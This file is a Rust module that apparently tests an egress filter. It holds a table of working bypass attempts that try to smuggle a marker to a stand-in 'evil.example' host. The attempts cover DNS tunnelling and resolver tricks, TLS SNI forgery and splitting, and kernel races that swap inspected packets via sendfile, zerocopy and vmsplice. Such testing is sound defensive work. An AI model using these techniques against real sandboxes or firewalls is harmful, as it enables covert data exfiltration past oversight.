//! Ways around names, one function each: to be told what only another resolver tells, to tell it something, or to call a
//! host that no contract names at an address that one does. All of them try to get a marker to the far end.

use std::{
    fs::File,
    io::{self, Error, ErrorKind, Write},
    net::{SocketAddr, TcpStream, UdpSocket},
    os::{
        fd::{AsRawFd, FromRawFd},
        unix::fs::FileExt,
    },
    thread,
    time::Duration,
};

use anyhow::Context;
use hickory_proto::rr::RecordType;

use crate::{agent::word, hello::Hello, names, raw, tls};

/// What an attack has to work with.
pub(crate) struct Kit {
    /// Eight bytes that the far end looks for.
    marker: String,
}

/// Names that the contract allows. The second is as long as the forbidden ones.
const ALLOWED: [&str; 2] = ["crm.example", "customers.crm.example"];
/// The host that has them, and those of others.
const SHARED: &str = "203.0.113.40:443";
const SHARED6: &str = "[2001:db8::40]:443";
const RESOLVER: &str = "203.0.113.53:53";

impl Kit {
    /// A name that no contract allows.
    fn evil(&self) -> String {
        format!("{}.evil.example", self.marker)
    }

    /// A ClientHello for it.
    fn hello(&self) -> Hello {
        Hello::to(self.evil())
    }

    /// A name that is allowed, and the marker at the end of what calls for it.
    fn marked(&self, hello: Hello) -> Hello {
        hello.padded(self.marker.as_bytes())
    }
}

/// An attack.
pub(crate) struct Attack {
    pub(crate) id: &'static str,
    /// Where it was first described.
    pub(crate) source: &'static str,
    act: fn(&Kit) -> io::Result<()>,
}

macro_rules! table {
    ($($id:literal, $source:literal, $act:expr;)*) => {
        /// All of them.
        pub(crate) const TABLE: &[Attack] = &[$(Attack { id: $id, source: $source, act: $act },)*];
    };
}

table! {
    "dns-udp", "PEERS 3.2", |k| asked("udp", RESOLVER, k);
    "dns-connected", "KERNEL 1.5", |k| asked("udp-connected", RESOLVER, k);
    "dns-sendmmsg", "KERNEL 1.5", dns_second_message;
    "dns-tcp", "bullfrog 175", |k| asked("tcp", RESOLVER, k);
    "dns-mapped", "KERNEL 4", |k| asked("udp", "[::ffff:203.0.113.53]:53", k);
    "dns-mapped-tcp", "KERNEL 4", |k| asked("tcp", "[::ffff:203.0.113.53]:53", k);
    "dns-v6", "KERNEL 4", |k| asked("udp", "[2001:db8::53]:53", k);
    "dns-v6-tcp", "KERNEL 4", |k| asked("tcp", "[2001:db8::53]:53", k);
    "dns-other-resolver", "PEERS 3.2", |k| sent_question("203.0.113.99:53", k);
    "dns-other-port", "PEERS 3.2", |k| sent_question("203.0.113.99:9999", k);
    "dns-getaddrinfo", "PEERS 3.2", |k| names::addresses(&k.evil()).map(drop);
    "dns-txt-tunnel", "PEERS 3.2", txt_tunnel;
    "dns-two-questions", "review", two_questions;
    "dns-extra-bytes", "review", |k| changed_question(|question| question.extend_from_slice(k.marker.as_bytes()));
    "dns-option", "review", |k| changed_question(|question| add_option(question, k.marker.as_bytes()));
    "dns-pipelined", "KERNEL 1.5", pipelined;
    "dns-byte-by-byte", "KERNEL 1.5", slow_question;
    "dns-over-tls", "PEERS 3.2", |k| over(&["203.0.113.53:853"], &k.hello().bytes());
    "dns-over-https", "PEERS 3.2", |k| over(&["203.0.113.41:443"], &k.hello().bytes());
    "dns-multicast", "PEERS 3.2", |k| sent_question("224.0.0.251:5353", k);
    "dns-multicast6", "PEERS 3.2", multicast6;
    "dns-link-local", "PEERS 3.2", |k| sent_question("224.0.0.252:5355", k);
    "dns-multicast-port", "PEERS 3.2", |k| sent_question("203.0.113.40:5353", k);
    "dns-rebound", "PEERS 3.2", rebound;
    "quic", "PEERS 3.2", |k| UdpSocket::bind("0.0.0.0:0")?.send_to(k.marker.as_bytes(), SHARED).map(drop);
    "tls-other-name", "KERNEL 1.6", |k| called(&k.hello().bytes());
    "tls-other-name-v6", "KERNEL 1.6", |k| over(&[SHARED6], &k.hello().bytes());
    "tls-other-name-mapped", "KERNEL 1.6", |k| over(&["[::ffff:203.0.113.40]:443"], &k.hello().bytes());
    "tls-unlearned-address", "KERNEL 1.6", |k| over(&["203.0.113.44:443"], &k.marked(Hello::to(ALLOWED[0])).bytes());
    "tls-byte-by-byte", "KERNEL 1.6", |k| tls::slowly(&mut dial(SHARED)?, &k.hello().bytes());
    "tls-records", "KERNEL 1.6", |k| called(&k.hello().in_records(60));
    "tls-records-byte-by-byte", "KERNEL 1.6", |k| tls::slowly(&mut dial(SHARED)?, &k.hello().in_records(1));
    "tls-no-name", "KERNEL 1.6", |k| called(&k.marked(Hello::nameless()).bytes());
    "tls-empty-name", "review", |k| called(&k.marked(Hello::to("")).bytes());
    "tls-empty-list", "review", |k| called(&k.marked(Hello::nameless().list(&[])).bytes());
    "tls-two-names", "review", |k| called(&Hello::nameless().list(&[ALLOWED[0].as_bytes(), k.evil().as_bytes()]).bytes());
    "tls-two-lists", "review", |k| called(&Hello::to(ALLOWED[0]).list(&[k.evil().as_bytes()]).bytes());
    "tls-other-type", "review", |k| called(&Hello::nameless().typed(vec![(7, k.evil().into())]).bytes());
    "tls-upper-case", "review", |k| called(&Hello::to(k.evil().to_uppercase()).bytes());
    "tls-trailing-dot", "review", |k| called(&Hello::to(format!("{}.", k.evil())).bytes());
    "tls-allowed-with-dot", "review", |k| called(&k.marked(Hello::to(format!("{}.", ALLOWED[0]))).bytes());
    "tls-name-before", "review", |k| called(&Hello::to(format!("{}.{}", k.marker, ALLOWED[0])).bytes());
    "tls-name-after", "review", |k| called(&Hello::to(format!("{}.{}", ALLOWED[0], k.evil())).bytes());
    "tls-name-glued", "review", |k| called(&Hello::to(format!("{}{}", k.marker, ALLOWED[0])).bytes());
    "tls-nul-in-name", "review", |k| called(&Hello::to(format!("{}\0.{}", ALLOWED[0], k.evil())).bytes());
    "tls-address-as-name", "review", |k| called(&k.marked(Hello::to("203.0.113.40")).bytes());
    "tls-record-version", "review", |k| called(&k.hello().record_version(0x0505).bytes());
    "tls-garbage-first", "review", |k| called(&[&b"garbage"[..], &k.hello().bytes()].concat());
    "tls-other-record-first", "review", |k| called(&[&[21, 3, 3, 0, 2, 1, 0][..], &k.hello().bytes()].concat());
    "tls-plaintext", "PEERS 3.2", plaintext;
    "tls-nothing-but-bytes", "review", |k| called(k.marker.as_bytes());
    "tls-sink", "review", |k| over(&["203.0.113.43:443"], &k.hello().bytes());
    "tls-urgent-first", "review", |k| urgent(&[], &k.hello().bytes());
    "tls-urgent-between", "review", |k| urgent(&k.hello().bytes()[..40], &k.hello().bytes()[40..]);
    "tls-fastopen", "KERNEL 1.2", fastopen;
    "tls-large-write", "issue 4", large_write;
    "tls-post-quantum", "KERNEL 1.6", |k| called(&k.hello().post_quantum().bytes());
    "tls-ech", "KERNEL 1.6", |k| called(&Hello::to(ALLOWED[0]).ech(k.marker.as_bytes()).bytes());
    "tls-early-data", "review", early_data;
    "tls-after-hello", "review", |k| called(&[Hello::to(ALLOWED[0]).bytes(), k.hello().bytes()].concat());
    "tls-after-hello-later", "review", after_hello_later;
    "tls-second-hello", "review", second_hello;
    "tls-after-last-byte", "review", glued_to_last_byte;
    "tls-same-socket-again", "PEERS 3.2", same_socket;
    "tls-sendfile-changed", "KERNEL 4", |k| sendfile_changed(SHARED, k);
    "tls-sendfile-changed-v6", "KERNEL 4", |k| sendfile_changed(SHARED6, k);
    "tls-sendfile-raced", "KERNEL 4", sendfile_raced;
    "tls-zerocopy-changed", "KERNEL 4", zerocopy_changed;
    "tls-vmsplice-changed", "KERNEL 4", vmsplice_changed;
}

/// Runs one: `ID MARKER`.
pub(crate) fn run(id: &str, marker: &str) -> anyhow::Result<()> {
    let kit = Kit { marker: marker.into() };
    let attack = TABLE.iter().find(|attack| attack.id == id).context("no such attack")?;
    if !id.starts_with("dns") {
        // An address is open for whom its name was asked.
        for name in ALLOWED.iter().chain(&["again.example", "sink.example"]) {
            let _ = names::addresses(name);
        }
    }
    let done = (attack.act)(&kit);
    // What was sent is on its way.
    thread::sleep(Duration::from_millis(40));
    match done {
        Ok(()) => println!("tried"),
        Err(error) => println!("failed {}", word(&error)),
    }
    Ok(())
}

fn at(text: &str) -> io::Result<SocketAddr> {
    text.parse().map_err(|_| ErrorKind::InvalidInput.into())
}

fn asked(how: &str, resolver: &str, kit: &Kit) -> io::Result<()> {
    names::ask(how, at(resolver)?, &kit.evil(), RecordType::A).map(drop)
}

fn question(kit: &Kit) -> io::Result<Vec<u8>> {
    names::question(&[&kit.evil()], RecordType::A)
}

fn sent_question(to: &str, kit: &Kit) -> io::Result<()> {
    UdpSocket::bind("0.0.0.0:0")?.send_to(&question(kit)?, at(to)?).map(drop)
}

/// The first message asks for what is allowed, the second does not.
fn dns_second_message(kit: &Kit) -> io::Result<()> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    let (harmless, evil) = (names::question(&ALLOWED[..1], RecordType::A)?, question(kit)?);
    names::send_many(socket.as_raw_fd() as usize, &[(at(RESOLVER)?, &harmless), (at(RESOLVER)?, &evil)])
}

/// What leaves is in the labels.
fn txt_tunnel(kit: &Kit) -> io::Result<()> {
    let name = format!("{}.{}.tunnel.evil.example", "6f7574".repeat(9), kit.marker);
    names::ask("udp", at(RESOLVER)?, &name, RecordType::TXT).map(drop)
}

/// An allowed name and another in one message.
fn two_questions(kit: &Kit) -> io::Result<()> {
    let message = names::question(&[ALLOWED[0], &kit.evil()], RecordType::A)?;
    UdpSocket::bind("0.0.0.0:0")?.send_to(&message, at(RESOLVER)?).map(drop)
}

/// A question for an allowed name, and something with it.
fn changed_question(change: impl FnOnce(&mut Vec<u8>)) -> io::Result<()> {
    let mut message = names::question(&ALLOWED[..1], RecordType::A)?;
    change(&mut message);
    UdpSocket::bind("0.0.0.0:0")?.send_to(&message, at(RESOLVER)?).map(drop)
}

/// An EDNS option of those for private use (RFC 6891 section 6.1.2).
fn add_option(message: &mut Vec<u8>, data: &[u8]) {
    // One additional record: the root's, OPT, 1232 bytes, no flags.
    message[11] = 1;
    message.extend_from_slice(&[0, 0, 41, 4, 208, 0, 0, 0, 0, 0, data.len() as u8 + 4, 255, 1, 0, data.len() as u8]);
    message.extend_from_slice(data);
}

/// Two questions over one connection, in one segment.
fn pipelined(kit: &Kit) -> io::Result<()> {
    let harmless = names::framed(&names::question(&ALLOWED[..1], RecordType::A)?);
    over(&[RESOLVER], &[harmless, names::framed(&question(kit)?)].concat())
}

fn slow_question(kit: &Kit) -> io::Result<()> {
    tls::slowly(&mut dial(RESOLVER)?, &names::framed(&question(kit)?))
}

fn multicast6(kit: &Kit) -> io::Result<()> {
    let socket = UdpSocket::bind("[::]:0")?;
    // SAFETY: a live text with a NUL at its end.
    let index = unsafe { libc::if_nametoindex(c"near0".as_ptr()) };
    let fd = socket.as_raw_fd() as usize;
    raw::option(fd, libc::IPPROTO_IPV6, libc::IPV6_MULTICAST_IF, &index.to_ne_bytes())?;
    socket.send_to(&question(kit)?, at("[ff02::fb]:5353")?).map(drop)
}

/// A name that is allowed has an address inside.
fn rebound(kit: &Kit) -> io::Result<()> {
    let found = names::addresses("rebound.example")?;
    let ip = found.first().ok_or(ErrorKind::NotFound)?;
    over(&[&format!("{ip}:443")], &kit.marked(Hello::to("rebound.example")).bytes())
}

fn dial(to: &str) -> io::Result<TcpStream> {
    let stream = TcpStream::connect_timeout(&at(to)?, Duration::from_millis(500))?;
    stream.set_nodelay(true)?;
    stream.set_write_timeout(Some(Duration::from_secs(1)))?;
    stream.set_read_timeout(Some(Duration::from_millis(500)))?;
    Ok(stream)
}

/// Connects to each and sends; the connections end with the process.
fn over(to: &[&str], bytes: &[u8]) -> io::Result<()> {
    for to in to {
        let mut stream = dial(to)?;
        stream.write_all(bytes)?;
        // Some things are refused only when they are sent again.
        thread::sleep(Duration::from_millis(20));
        std::mem::forget(stream);
    }
    Ok(())
}

/// The host that is shared is called like this.
fn called(bytes: &[u8]) -> io::Result<()> {
    over(&[SHARED], bytes)
}

fn plaintext(kit: &Kit) -> io::Result<()> {
    called(format!("GET / HTTP/1.1\r\nHost: {}\r\n\r\n", kit.evil()).as_bytes())
}

/// A byte that is on the wire and not in the stream: servers do not get it with the rest.
fn urgent(before: &[u8], after: &[u8]) -> io::Result<()> {
    let mut stream = dial(SHARED)?;
    let fd = stream.as_raw_fd() as usize;
    stream.write_all(before)?;
    raw::send_to(fd, b"!", libc::MSG_OOB, None)?;
    stream.write_all(after)?;
    std::mem::forget(stream);
    Ok(())
}

/// Twice: the second time there is a cookie, and the SYN itself carries the data.
fn fastopen(kit: &Kit) -> io::Result<()> {
    let mut done = Ok(());
    for _ in 0..2 {
        let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
        raw::impatient(fd)?;
        done = raw::send_to(fd, &kit.hello().bytes(), libc::MSG_FASTOPEN, Some(at(SHARED)?)).map(drop);
        thread::sleep(Duration::from_millis(50));
    }
    done
}

/// One write of 64 KiB, which the kernel cuts as late as it can.
fn large_write(kit: &Kit) -> io::Result<()> {
    let mut bytes = kit.hello().bytes();
    bytes.resize(64 << 10, b'.');
    called(&bytes)
}

fn early_data(kit: &Kit) -> io::Result<()> {
    let mut bytes = Hello::to(ALLOWED[0]).early_data().bytes();
    bytes.extend_from_slice(&[23, 3, 3, 0, kit.marker.len() as u8]);
    bytes.extend_from_slice(kit.marker.as_bytes());
    called(&bytes)
}

/// More before the server has said anything: the sink never does.
fn after_hello_later(kit: &Kit) -> io::Result<()> {
    let mut stream = dial("203.0.113.43:443")?;
    stream.write_all(&Hello::to("sink.example").bytes())?;
    thread::sleep(Duration::from_millis(50));
    stream.write_all(&kit.hello().bytes())?;
    std::mem::forget(stream);
    Ok(())
}

/// The server asks for another ClientHello; it is for another name.
fn second_hello(kit: &Kit) -> io::Result<()> {
    let mut stream = dial("203.0.113.42:443")?;
    stream.write_all(&Hello::to("again.example").bytes())?;
    let mut answer = [0; 512];
    io::Read::read(&mut stream, &mut answer)?;
    stream.write_all(&[20, 3, 3, 0, 1, 1])?;
    stream.write_all(&kit.hello().bytes())?;
    std::mem::forget(stream);
    Ok(())
}

/// The last byte of a ClientHello and another, in one segment.
fn glued_to_last_byte(kit: &Kit) -> io::Result<()> {
    let mut stream = dial(SHARED)?;
    let hello = Hello::to(ALLOWED[0]).bytes();
    stream.write_all(&hello[..hello.len() - 1])?;
    thread::sleep(Duration::from_millis(20));
    stream.write_all(&[&hello[hello.len() - 1..], &kit.hello().bytes()].concat())?;
    std::mem::forget(stream);
    Ok(())
}

/// One socket: called well, closed, and called again.
fn same_socket(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    raw::impatient(fd)?;
    raw::connect(fd, at(SHARED)?)?;
    raw::send_to(fd, &Hello::to(ALLOWED[0]).bytes(), libc::MSG_NOSIGNAL, None)?;
    thread::sleep(Duration::from_millis(50));
    let nobody = [0_u8; 16];
    raw::call(libc::SYS_connect, [fd, nobody.as_ptr() as usize, nobody.len(), 0, 0, 0])?;
    raw::connect(fd, at(SHARED)?)?;
    raw::send_to(fd, &kit.hello().bytes(), libc::MSG_NOSIGNAL, None).map(drop)
}

/// A harmless ClientHello, and one of the same length that is not.
fn pair(kit: &Kit) -> io::Result<[Vec<u8>; 2]> {
    let pair = [Hello::to(ALLOWED[1]).bytes(), kit.hello().bytes()];
    if pair[0].len() == pair[1].len() {
        Ok(pair)
    } else {
        Err(Error::new(ErrorKind::InvalidInput, "the names differ in length"))
    }
}

/// Sends by `send` what is harmless, so that it does not arrive; changes it by `change`; and lets the kernel send it again.
fn sent_again(
    to: &str,
    send: impl FnOnce(usize, &[u8]) -> io::Result<()>,
    change: impl FnOnce(&[u8]) -> io::Result<()>,
    kit: &Kit,
) -> io::Result<()> {
    let [harmless, evil] = pair(kit)?;
    let stream = dial(to)?;
    let fd = stream.as_raw_fd() as usize;
    let (level, option) = match at(to)? {
        SocketAddr::V4(_) => (libc::IPPROTO_IP, libc::IP_TTL),
        SocketAddr::V6(_) => (libc::IPPROTO_IPV6, libc::IPV6_UNICAST_HOPS),
    };
    let hops = |hops: i32| raw::option(fd, level, option, &hops.to_ne_bytes());
    hops(1)?;
    send(fd, &harmless)?;
    // Whoever looked at it on its way has seen what was harmless.
    thread::sleep(Duration::from_millis(30));
    change(&evil)?;
    hops(64)?;
    thread::sleep(Duration::from_millis(1500));
    std::mem::forget(stream);
    Ok(())
}

/// A file that is nowhere but in memory.
fn file() -> io::Result<File> {
    let fd = raw::call(libc::SYS_memfd_create, [c"hello".as_ptr() as usize, 0, 0, 0, 0, 0])?;
    // SAFETY: a descriptor that was just made and that nobody else has.
    Ok(unsafe { File::from_raw_fd(fd as i32) })
}

fn sendfile(socket: usize, file: &File, length: usize) -> io::Result<()> {
    // From its beginning, wherever the last one ended.
    let mut from = 0_i64;
    let a = [socket, file.as_raw_fd() as usize, (&raw mut from) as usize, length, 0, 0];
    raw::call(libc::SYS_sendfile, a).map(drop)
}

fn sendfile_changed(to: &str, kit: &Kit) -> io::Result<()> {
    let file = file()?;
    let send = |socket: usize, bytes: &[u8]| {
        file.write_all_at(bytes, 0)?;
        sendfile(socket, &file, bytes.len())
    };
    sent_again(to, send, |evil| file.write_all_at(evil, 0), kit)
}

/// Changes the file while its page is on the way: over a veth, the far side has the page itself until it reads it.
fn sendfile_raced(kit: &Kit) -> io::Result<()> {
    let [harmless, evil] = pair(kit)?;
    let file = file()?;
    for _ in 0..30 {
        file.write_all_at(&harmless, 0)?;
        let stream = dial(SHARED)?;
        sendfile(stream.as_raw_fd() as usize, &file, harmless.len())?;
        file.write_all_at(&evil, 0)?;
        // A refused one need not be read from.
        thread::sleep(Duration::from_millis(5));
    }
    Ok(())
}

/// A page of one's own that the kernel may be given, and a way to write to it.
struct Page(usize);

impl Page {
    fn new() -> io::Result<Self> {
        let flags = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_POPULATE;
        raw::call(libc::SYS_mmap, [0, 4096, 3, flags as usize, usize::MAX, 0]).map(Self)
    }

    fn write(&self, bytes: &[u8]) {
        // SAFETY: the mapping is this process's own, a page long, and ClientHellos made here are shorter.
        unsafe { std::ptr::copy_nonoverlapping(bytes.as_ptr(), self.0 as *mut u8, bytes.len().min(4096)) };
    }
}

fn zerocopy_changed(kit: &Kit) -> io::Result<()> {
    let page = Page::new()?;
    let send = |socket: usize, bytes: &[u8]| {
        raw::option(socket, libc::SOL_SOCKET, libc::SO_ZEROCOPY, &1_i32.to_ne_bytes())?;
        page.write(bytes);
        let a = [socket, page.0, bytes.len(), libc::MSG_ZEROCOPY as usize, 0, 0];
        raw::call(libc::SYS_sendto, a).map(drop)
    };
    let change = |evil: &[u8]| {
        page.write(evil);
        Ok(())
    };
    sent_again(SHARED, send, change, kit)
}

fn vmsplice_changed(kit: &Kit) -> io::Result<()> {
    let page = Page::new()?;
    let mut pipe = [0_i32; 2];
    raw::call(libc::SYS_pipe2, [pipe.as_mut_ptr() as usize, 0, 0, 0, 0, 0])?;
    let [from, to] = pipe.map(|fd| fd as usize);
    let send = |socket: usize, bytes: &[u8]| {
        page.write(bytes);
        let part = [page.0, bytes.len()];
        raw::call(libc::SYS_vmsplice, [to, part.as_ptr() as usize, 1, 0, 0, 0])?;
        raw::call(libc::SYS_splice, [from, 0, socket, 0, bytes.len(), 0]).map(drop)
    };
    let change = |evil: &[u8]| {
        page.write(evil);
        Ok(())
    };
    sent_again(SHARED, send, change, kit)
}
